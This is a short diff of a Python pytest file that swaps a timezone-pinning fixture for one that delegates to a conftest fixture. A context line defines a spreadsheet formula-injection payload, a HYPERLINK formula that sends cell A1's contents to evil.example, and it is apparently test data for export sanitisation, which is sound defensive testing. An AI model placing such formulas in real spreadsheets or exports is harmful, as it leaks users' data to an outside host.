@@ -13,7 +13,6 @@ import re
 import stat
 import subprocess
 import sys
-import time
 import zipfile
 from datetime import datetime
 from pathlib import Path
@@ -40,13 +39,8 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")'
 
 
 @pytest.fixture(autouse=True)
-def utc(monkeypatch: pytest.MonkeyPatch):
-    """Dates are rendered with astimezone(): pin the zone."""
-    monkeypatch.setenv("TZ", "UTC")
-    time.tzset()
-    yield
-    monkeypatch.undo()
-    time.tzset()
+def _utc(utc: None) -> None:
+    """Every test here shows dates: in UTC (conftest's `utc`)."""
 
 
 @pytest.fixture(scope="module")
